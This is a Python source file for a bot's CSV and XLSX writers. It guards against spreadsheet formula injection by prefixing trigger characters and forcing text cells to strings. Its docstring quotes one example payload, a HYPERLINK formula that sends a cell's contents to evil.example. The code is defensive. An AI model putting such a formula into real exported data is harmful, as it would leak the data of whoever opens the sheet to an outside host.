"""Spreadsheet cells that stay data: every CSV and XLSX writer of the bot goes through here.

A unit can name itself ``=HYPERLINK("http://evil.example/?d="&G2,"x")``; opened in Excel,
such a value must never become a live formula (CSV injection, OWASP). In XLSX every text
cell is written as a string cell. In CSV, where a spreadsheet guesses the type, a text
field that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
leading ``'``, as OWASP describes. (defusedcsv does the same for CSV but leaves tab and
carriage return alone and rewrites ``|``, so this one small function does it instead.)
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """A CSV field that no spreadsheet runs as a formula; numbers and None unchanged."""
    if isinstance(value, str) and value.startswith(_TRIGGERS):
        return "'" + value
    return value


def csv_rows(out: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any]]) -> None:
    """Write ``header`` and ``rows`` as CSV, every field neutralised."""
    writer = csv.writer(out)
    writer.writerow([neutralise(v) for v in header])
    writer.writerows([neutralise(v) for v in row] for row in rows)


def csv_dicts(out: IO[str], fields: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> None:
    """Write dict rows as CSV with ``fields`` as the header; missing keys are empty."""
    csv_rows(out, fields, ([row.get(f, "") for f in fields] for row in rows))


def append_text_safe(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet with every text cell a string, never a formula."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
